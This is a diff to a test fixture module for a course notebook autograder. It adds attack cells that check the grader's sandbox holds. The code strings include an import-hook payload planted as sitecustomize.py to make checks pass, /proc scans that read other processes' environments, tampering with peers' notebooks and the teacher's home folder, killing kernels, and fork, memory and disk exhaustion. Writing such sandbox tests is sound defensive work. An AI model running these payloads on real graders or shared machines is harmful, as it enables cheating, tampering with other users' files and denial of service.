@@ -2,6 +2,7 @@
 a class of learners might hand in (solved, untouched, partly solved, broken, hanging, cheating)."""
 from __future__ import annotations
 
+import json
 import shutil
 from pathlib import Path
 
@@ -196,9 +197,187 @@ ANSWER_FORGERIES = {
 }
 
 
+def sandbox_or_none():
+    """The grader's sandbox mode on this machine (course.sandbox.probe), or None where bwrap cannot run: then the
+    grader's tests pass --no-sandbox and skip what only the sandbox guarantees."""
+    from course import sandbox
+
+    try:
+        return sandbox.probe()
+    except sandbox.Unavailable:
+        return None
+
+
 def write_course(folder: Path) -> Path:
     """A course folder holding solutions/99_synthetic.ipynb and its checks module; returns it."""
     (folder / "solutions").mkdir(parents=True, exist_ok=True)
     nbformat.write(solution_notebook(), folder / "solutions" / f"{STEM}.ipynb")
     shutil.copy(Path(__file__).with_name(f"{CHECKS}.py"), folder / f"{CHECKS}.py")
     return folder
+
+
+# ------------------------------------------------------------------------------------------ attacks
+# What a class of motivated learners tried against the grader (issue 18), each as one cell of a notebook whose
+# answers are otherwise wrong, so that any "passed" is the attack's doing. MARKER is a string only the test's own
+# room uses (a folder name): an attack that scans /proc acts only on processes that carry it, so that a grader
+# without its sandbox is never able to harm anything on the machine but the test's own room.
+
+SITECUSTOMIZE_PAYLOAD = '''\
+import importlib.abc, importlib.util, sys
+class _Pass(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        if name != "lenet.checks.core":
+            return None
+        sys.meta_path.remove(self)
+        try:
+            spec = importlib.util.find_spec(name)
+        finally:
+            sys.meta_path.insert(0, self)
+        run = spec.loader.exec_module
+        def exec_module(module):
+            run(module)
+            module.check_equal = lambda *a, **k: None
+        spec.loader.exec_module = exec_module
+        return spec
+sys.meta_path.insert(0, _Pass())
+'''
+
+
+def plant_sitecustomize() -> str:
+    """Write sitecustomize.py into the folder the kernel imports lenet from: every later kernel would run it."""
+    return ("import os, lenet\n"
+            "root = os.path.dirname(os.path.dirname(lenet.__file__))\n"
+            "try:\n"
+            f"    open(os.path.join(root, 'sitecustomize.py'), 'w').write({SITECUSTOMIZE_PAYLOAD!r})\n"
+            "    print('planted in', root)\n"
+            "except OSError as e:\n"
+            "    print('refused:', e)")
+
+
+def _scan(body: str) -> str:
+    """A loop over every process this kernel can see, with ``pid``, ``cmd`` (bytes) and ``env`` (bytes) bound."""
+    return ("import os\n"
+            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
+            "    try:\n"
+            "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
+            "        env = open(f'/proc/{pid}/environ', 'rb').read()\n"
+            "    except OSError:\n"
+            "        continue\n" + "".join(f"    {line}\n" for line in body.splitlines()))
+
+
+def write_teacher_home(marker: str) -> str:
+    """Find the grader through /proc, read its HOME from /proc/<grader>/environ and write a file there."""
+    return _scan("if b'lenet.grade' not in cmd:\n"
+                 "    continue\n"
+                 "for entry in env.split(b'\\0'):\n"
+                 f"    if entry.startswith(b'HOME=') and {marker.encode()!r} in entry:\n"
+                 "        open(os.path.join(entry[5:].decode(), 'pwned.txt'), 'w').write('a learner was here')\n"
+                 "        print('wrote into', entry[5:].decode())")
+
+
+def raid_room(known_room: str) -> str:
+    """Find the room through /proc/<grader>/cmdline (or at the path a learner guessed), copy the answers of a
+    peer's solved notebook into this kernel and rewrite an untouched peer's file on disk."""
+    return ("import glob, json, os\n"
+            f"rooms = [{known_room!r}]\n"
+            + _scan("if b'lenet.grade' in cmd:\n"
+                    "    rooms += [a.decode() for a in cmd.split(b'\\0') if a and os.path.isdir(a)]") +
+            "copied = rewritten = 0\n"
+            "for room in rooms:\n"
+            "    for path in glob.glob(os.path.join(room, '**', '*.ipynb'), recursive=True):\n"
+            "        name = os.path.basename(path)\n"
+            "        try:\n"
+            "            if name.startswith('solved-'):\n"
+            "                for cell in json.load(open(path))['cells']:\n"
+            "                    if cell.get('metadata', {}).get('course', {}).get('role') == 'solution':\n"
+            "                        exec(''.join(cell['source']), globals())\n"
+            "                        copied += 1\n"
+            "            elif name.startswith('peer-'):\n"
+            "                text = open(path).read()\n"
+            "                open(path, 'w').write(text.replace('raise NotImplementedError()', 'pass'))\n"
+            "                rewritten += 1\n"
+            "        except OSError:\n"
+            "            pass\n"
+            "print('copied', copied, 'rewritten', rewritten)")
+
+
+def survive(marker: str) -> str:
+    """A process with an empty environment, in a session of its own, that means to outlive grading."""
+    return ("import subprocess, sys\n"
+            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', {marker!r}], env={{}},\n"
+            "                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
+            "                 stderr=subprocess.DEVNULL)")
+
+
+def kill_peers(marker: str, seconds: float = 8) -> str:
+    """For a few seconds, SIGKILL every other Jupyter kernel of the room (the grader's kernels carry ``marker``)."""
+    return ("import signal, time\n"
+            f"end, killed = time.monotonic() + {seconds}, set()\n"
+            "while time.monotonic() < end:\n"
+            + "".join(f"    {line}\n" for line in _scan(
+                "if int(pid) != os.getpid() and b'ipykernel' in cmd and "
+                f"({marker.encode()!r} in cmd or {marker.encode()!r} in env):\n"
+                "    try:\n"
+                "        os.kill(int(pid), signal.SIGKILL)\n"
+                "        killed.add(pid)\n"
+                "    except OSError:\n"
+                "        pass").splitlines()) +
+            "    time.sleep(0.05)\n"
+            "print('killed', len(killed))")
+
+
+KILL_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
+STOP_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"
+
+#: Exercise 1 passes only when all 100 forks went through: a pass means the process limit did not hold.
+FORKS = ("import os, time\n"
+         "made, kids = 0, []\n"
+         "for _ in range(100):\n"
+         "    try:\n"
+         "        pid = os.fork()\n"
+         "    except OSError:\n"
+         "        break\n"
+         "    if pid == 0:\n"
+         "        time.sleep(3)\n"
+         "        os._exit(0)\n"
+         "    kids.append(pid)\n"
+         "for pid in kids:\n"
+         "    os.waitpid(pid, 0)\n"
+         "answer = 42 if len(kids) == 100 else len(kids)")
+
+#: Exercise 1 passes only when two children held 1 GiB each at the same time: the memory limit did not hold.
+TWO_CHILDREN = ("import subprocess, sys\n"
+                "hold = 'import sys, time; b = bytearray(b\"x\") * (1 << 30); print(1, flush=True); time.sleep(4)'\n"
+                "kids = [subprocess.Popen([sys.executable, '-c', hold], stdout=subprocess.PIPE) for _ in range(2)]\n"
+                "held = [k.stdout.read() for k in kids]\n"
+                "codes = [k.wait() for k in kids]\n"
+                "answer = 42 if codes == [0, 0] and held == [b'1\\n', b'1\\n'] else codes")
+
+
+def fill_disk(mib: int, files: int) -> str:
+    """Exercise 1 passes only when ``files`` files of ``mib`` MiB each fit in the kernel's folder."""
+    return ("import os\n"
+            "written = 0\n"
+            f"chunk = b'x' * (1 << 20)\n"
+            f"for n in range({files}):\n"
+            "    try:\n"
+            "        with open(f'big{n}.bin', 'wb') as f:\n"
+            f"            for _ in range({mib}):\n"
+            "                f.write(chunk)\n"
+            "        written += 1\n"
+            "    except OSError as e:\n"
+            "        print(type(e).__name__, e.errno)\n"
+            "        break\n"
+            f"for n in range({files}):\n"
+            "    if os.path.exists(f'big{n}.bin'):\n"
+            "        os.remove(f'big{n}.bin')\n"
+            f"answer = 42 if written == {files} else written")
+
+
+def without_ids(nb: nbformat.NotebookNode) -> dict:
+    """``nb`` as nbformat 4.4 writes it (older tools, some editors): no cell ids. Returns the JSON dict."""
+    data = json.loads(nbformat.writes(nb))
+    data["nbformat_minor"] = 4
+    for cell in data["cells"]:
+        cell.pop("id", None)
+    return data
